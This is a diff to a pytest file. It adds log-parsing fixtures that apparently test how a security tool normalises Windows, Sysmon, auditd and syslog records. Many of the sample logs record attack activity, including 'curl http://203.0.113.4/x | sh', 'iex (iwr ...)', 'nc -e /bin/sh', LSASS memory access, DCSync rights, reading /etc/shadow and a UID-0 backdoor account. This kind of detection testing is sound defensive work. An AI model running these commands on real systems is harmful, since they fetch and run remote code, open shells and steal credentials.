@@ -50,7 +50,54 @@ EXAMPLES = [
      "powershell script block / invoke web request / publicip", {}),
     ("03/01/2031 01:02:03 PM\nLogName=Security\nEventCode=4624\nComputerName=dc7\nMessage=An account was successfully logged on.\n\nSubject:\n\tAccount Name:\t\t-\n\nLogon Type:\t\t10\n\nNew Logon:\n\tAccount Name:\t\tbob\n\nNetwork Information:\n\tSource Network Address:\t198.51.100.8\n",
      "WinEventLog:Security", "windows", "logon success / remote interactive / publicip", {"target": "bob", "src": "198.51.100.8"}),
+    ("EventCode=4663\nLogName=Security\nSourceName=Microsoft Windows security auditing.\nMessage=An attempt was made to access an object.\n\nObject:\n\tObject Type:\t\tProcess\n"
+     "\tObject Name:\t\t\\Device\\HarddiskVolume2\\Windows\\System32\\lsass.exe\n\nAccess Request Information:\n\tAccess Mask:\t\t0x1410\n", "", "windows", "object access windows security / access read memory / lsass exe", {}),
+    ("EventCode=4732\nLogName=Security\nMessage=A member was added to a security-enabled local group.\n\nSubject:\n\tAccount Name:\t\teve\n\nMember:\n\tAccount Name:\t\tCN=x,CN=Users,DC=a\n\n"
+     "Group:\n\tSecurity ID:\t\tBUILTIN\\Administrators\n\tGroup Name:\t\tAdministrators\n", "", "windows", "member added to local group / group administrators / administrators group", {"user": "eve", "target": "administrators"}),
+    ("EventCode=4104\nLogName=Microsoft-Windows-PowerShell/Operational\nSourceName=Microsoft-Windows-PowerShell\nMessage=Creating Scriptblock text (1 of 1):\niex (iwr http://203.0.113.9/a)\n\nScriptBlock ID: 1\nPath: \n",
+     "", "windows", "powershell script block / iex iwr http url publicip", {}),
+    ("EventCode=4698\nLogName=Security\nMessage=A scheduled task was created.\n\nTask Information:\n\tTask Name: \t\t\\Upd\n\tTask Content: \t\t<?xml version=\"1.0\"?>\n<Task><Triggers><LogonTrigger/></Triggers>\n"
+     "<Settings><Hidden>true</Hidden></Settings><Actions><Exec><Command>C:\\Users\\Public\\x.exe</Command><Arguments>-c 1</Arguments></Exec></Actions></Task>\n", "", "windows",
+     "scheduled task created / task content users public x exe c num logon trigger hidden", {"path": "upd"}),
+    ("Mar 12 10:15:22 pc-7 MSWinEventLog\t1\tSecurity\t8812\tTue Mar 12 10:15:22 2031\t4624\tMicrosoft-Windows-Security-Auditing\tEX\\bob\tN/A\tSuccess Audit\tpc-7\tLogon\t\tAn account was successfully logged on.    "
+     "Subject:   Account Name:  -    Logon Information:   Logon Type:  3    New Logon:   Account Name:  bob    Network Information:   Workstation Name: KALI   Source Network Address: 10.1.2.3    "
+     "Detailed Authentication Information:   Authentication Package: NTLM   Package Name (NTLM only): NTLM V1\t881", "snare", "windows",
+     "logon success / type network / from privateip / station attack tool / package ntlm ntlmv1", {"target": "bob", "src": "10.1.2.3"}),
+    ({"EventId": 4648, "Channel": "Security", "Provider": "Microsoft-Windows-Security-Auditing", "Computer": "pc-7", "MapDescription": "x", "Payload":
+      json.dumps({"EventData": {"Data": [{"@Name": "SubjectUserName", "#text": "eve"}, {"@Name": "TargetUserName", "#text": "Administrator"}, {"@Name": "TargetServerName", "#text": "fs1.example.lan"}]}})}, "", "windows",
+     "logon with explicit credentials / target administrator / server localdomain", {"user": "eve", "target": "administrator"}),
+    (xml(400, "PowerShell").replace("<EventData>", "<EventData><Data>Available</Data><Data>None</Data><Data>HostName=ConsoleHost\n\tHostApplication=powershell -w hidden iex x\n\tEngineVersion=2.0\n</Data>"), "", "windows",
+     "powershell engine started / host application powershell w hidden iex x old engine", {}),
+    (xml(4719, AuditPolicyChanges="%%8448, %%8450", SubjectUserName="eve"), "", "windows", "audit policy changed / success removed failure removed", {"user": "eve"}),
+    (xml(4662, ObjectServer="DS", ObjectType="%{19195a5b-6da0-11d0-afd3-00c04fd930c9}", ObjectName="%{c6faf700-bfe4-452a-a766-424f84c29583}", AccessMask="0x100", Properties="%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"), "", "windows",
+     "directory object operation / class domain / replication get changes all / control access", {}),
+    (xml(7036, "Service Control Manager", param1="Windows Event Log", param2="stopped"), "", "windows", "service state changed / service windows event log state stopped", {"service": "windows event log"}),
+    ({"winlog": {"event_id": 3, "provider_name": "Microsoft-Windows-Sysmon"}, "process": {"executable": "C:\\Windows\\System32\\rundll32.exe"}, "destination": {"ip": "203.0.113.9", "port": 443}}, "", "windows",
+     "network connection / process windows system32 rundll32 exe / to publicip to https port", {"process": "rundll32.exe", "dest": "203.0.113.9"}),
+    # sensors of a host
+    ({"process_exec": {"process": {"binary": "/usr/bin/curl", "arguments": "-s http://203.0.113.4/x", "uid": 33, "cwd": "/tmp", "pod": {"name": "web"}}, "parent": {"binary": "/bin/sh"}}, "node_name": "n1"}, "", "auditd",
+     "process execute process usr bin curl command curl s http url publicip x parent bin sh directory tmp as service account in container", {"process": "curl", "parent": "sh", "host": "n1"}),
+    ({"rule": "Terminal shell in container", "priority": "Notice", "output": "x", "output_fields": {"proc.cmdline": "bash -i", "proc.name": "bash", "proc.pname": "runc", "user.name": "root", "container.id": "abc"}}, "", "auditd",
+     "rule terminal shell in container priority notice process bash command bash i parent runc as root in container", {"process": "bash"}),
+    ({"ID": "1.2:3", "NODE": "web1", "SYSCALL": {"syscall": 59, "success": "yes", "exe": "/usr/bin/id", "uid": 0}, "EXECVE": {"argc": 1, "ARGV": ["id", "-u"]}, "CWD": {"cwd": "/tmp"}}, "", "auditd",
+     "process execute success process usr bin id command id u directory tmp as root", {"process": "id", "host": "web1"}),
+    ({"eventName": "openat", "processName": "cat", "args": "[{'name': 'pathname', 'type': 'const char*', 'value': '/etc/shadow'}]", "returnValue": 3, "userId": 1000, "hostName": "h"}, "", "auditd",
+     "open process cat arguments etc shadow as user", {"process": "cat"}),
+    ({"event": {"exec": {"target": {"executable": {"path": "/usr/bin/osascript"}}, "args": ["osascript", "-e", "display dialog"]}}, "process": {"executable": {"path": "/bin/zsh"}}}, "", "auditd",
+     "process execute process usr bin osascript command osascript e display dialog parent bin zsh", {"process": "osascript", "parent": "zsh"}),
+    ({"name": "shell_history", "hostIdentifier": "w1", "columns": {"uid": "0", "command": "curl http://203.0.113.4/x | sh"}}, "", "auditd", "shell history command curl http url publicip x pipe sh as root", {"host": "w1"}),
+    ("2031-03-12 10:15:22.123456+0100 0x1a2b     Default     0x0                  812    0    sudo: (libpam.2.dylib) bob : TTY=ttys000 ; PWD=/Users/bob ; USER=root ; COMMAND=/usr/bin/csrutil disable", "", "syslog",
+     "privileged command sudo command usr bin csrutil disable by user as root", {"user": "bob"}),
+    ("Mar 12 10:15:22 web1 bash[812]: HISTORY: PID=812 UID=0 curl http://203.0.113.4/x | sh", "", "syslog", "shell command curl http url publicip x pipe sh as root", {"host": "web1"}),
+    ("Mar 12 10:15:22 web1 pkexec[81]: bob: Executing command [USER=root] [TTY=/dev/pts/0] [CWD=/tmp] [COMMAND=/usr/bin/id]", "", "syslog", "privileged command pkexec executing command usr bin id by user as root directory tmp", {"user": "bob", "target": "root"}),
+    ("Mar 12 10:15:22 web1 useradd[99]: new user: name=bkup, UID=0, GID=0, home=/root, shell=/bin/bash", "", "syslog", "user management useradd new user / uid zero gid zero with shell", {"target": "bkup"}),
+    ("Mar 12 10:15:22 web1 audispd: node=web1 type=SYSCALL msg=audit(1900000000.1:9): arch=c000003e syscall=59 success=yes exit=0 uid=0 euid=0 comm=\"nc\" exe=\"/usr/bin/nc\"", "", "auditd", "system call / execute / usr bin nc / root", {"process": "nc"}),
     # auditd
+    ('type=AVC msg=audit(1900000000.1:9): avc:  denied  { execute } for  pid=812 comm="httpd" path="/tmp/x" scontext=system_u:system_r:httpd_t:s0 tcontext=unconfined_u:object_r:user_tmp_t:s0 tclass=file permissive=0', "", "auditd",
+     "access denied by policy / denied execute / file tmp x / from httpd to user tmp class file", {}),
+    ("type=USER_MGMT msg=audit(1900000000.1:9): pid=7 uid=0 auid=1000 ses=1 msg='op=adding user to group grp=\"sudo\" acct=\"bob\" exe=\"/usr/sbin/usermod\" res=success'", "", "auditd",
+     "user management / operation adding user to group / group sudo", {"target": "bob"}),
+    ('type=SYSCALL msg=audit(1900000000.1:9): arch=c000003e syscall=59 success=yes exit=0 auid=1000 uid=33 euid=0 comm="sh" exe="/usr/bin/dash"', "", "auditd", "as root raised", {"process": "dash"}),
     ('type=EXECVE msg=audit(1900000000.123:42): argc=3 a0="curl" a1="-o" a2="/tmp/.x"', "", "auditd", "process execute / command curl / tmp", {"process": "curl"}),
     ("type=PROCTITLE msg=audit(1900000000.123:42): proctitle=" + b"nc\x00-e\x00/bin/sh".hex().upper(), "", "auditd", "process title / nc e bin sh", {"process": "nc"}),
     ('type=SYSCALL msg=audit(1900000000.1:9): arch=c000003e syscall=175 success=no exit=-1 a0=1 ppid=2 pid=3 auid=1000 uid=0 euid=0 tty=pts0 ses=1 comm="insmod" exe="/usr/bin/kmod" key="modules"',
@@ -178,7 +225,7 @@ def test_a_template_names_nobody_and_no_address(text, sourcetype, kind, words, e
         assert private not in template
 
 
-@pytest.mark.parametrize("module", ["sanitise", "redact", "decode", "formats.words", "formats.payload", "formats.domains", "formats.windows_events", "formats.cloud", "formats.jsonlog", "formats.draft"])
+@pytest.mark.parametrize("module", ["sanitise", "redact", "decode", "formats.words", "formats.payload", "formats.domains", "formats.host", "formats.windows_codes", "formats.windows_events", "formats.cloud", "formats.jsonlog", "formats.draft"])
 def test_the_examples_in_docstrings_hold(module):
     results = doctest.testmod(importlib.import_module(f"aiscore_model.{module}"))
     assert results.attempted and not results.failed
